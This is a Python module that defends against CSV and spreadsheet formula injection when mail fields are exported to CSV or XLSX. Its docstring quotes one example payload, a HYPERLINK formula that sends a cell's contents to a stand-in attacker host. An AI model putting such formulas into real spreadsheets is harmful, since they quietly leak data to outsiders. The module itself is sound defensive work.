"""Cells for spreadsheets made from mail: text stays text.

A subject, a sender or a Message-ID is written by whoever sent the mail. A spreadsheet program
runs a cell that starts with ``=`` (and, in CSV, ``+``, ``-``, ``@``, a tab or a carriage return)
as a formula: ``=HYPERLINK("http://evil.example/?leak="&A2, "Bấm vào đây")`` in a Subject would
become a live link that sends the register away. So every text goes into XLSX as a text cell,
and into CSV with a leading apostrophe when it starts like a formula (OWASP, CSV injection).
Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_value(value: Any) -> Any:
    """A value for a CSV cell: None is empty; a text that a spreadsheet would run is quoted."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_text(headers: Sequence[str], rows: Iterable[Sequence[Any]], newline: str = "\r\n") -> str:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator=newline)
    w.writerow(headers)
    for row in rows:
        w.writerow([csv_value(v) for v in row])
    return buf.getvalue()


def xlsx_row(ws: Any, values: Sequence[Any]) -> list[Any]:
    """The values as cells for ``ws.append`` where every text is a text cell, never a formula
    (openpyxl reads a string that starts with ``=`` as one). Works for write-only sheets too."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for v in values:
        cell = WriteOnlyCell(ws, value="" if v is None else v)
        if isinstance(v, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells
